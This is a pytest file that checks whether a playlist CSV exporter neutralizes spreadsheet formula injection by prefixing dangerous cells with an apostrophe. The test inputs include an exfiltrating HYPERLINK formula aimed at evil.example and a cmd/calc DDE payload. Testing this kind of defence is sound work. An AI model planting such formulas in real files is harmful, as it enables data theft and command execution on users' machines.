"""Playlist exports: what a spreadsheet does with a CSV cell that came from a crawled page."""

from __future__ import annotations

import csv
import io

import pytest

from scrapers.db.explore import TrackRef
from scrapers.explorer import playlists


def exported_row(artist: str, title: str, key: str | None = None) -> dict[str, str]:
    track = TrackRef("0", artist, title, key=key)
    text = playlists.csv_text(playlists.Playlist("p", (playlists.Entry(track, 3),)))
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    return row


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(hostile: str) -> None:
    row = exported_row(hostile, hostile, key=hostile)
    assert row["artist"] == row["title"] == row["key"] == "'" + hostile


def test_ordinary_csv_values_are_left_as_they_are() -> None:
    row = exported_row("Bicep", "Glue (Original Mix)", key="8A")
    assert (row["artist"], row["title"], row["key"], row["sets"]) == (
        "Bicep",
        "Glue (Original Mix)",
        "8A",
        "3",
    )
    assert exported_row("Artist", "Title - Remix")["title"] == "Title - Remix"
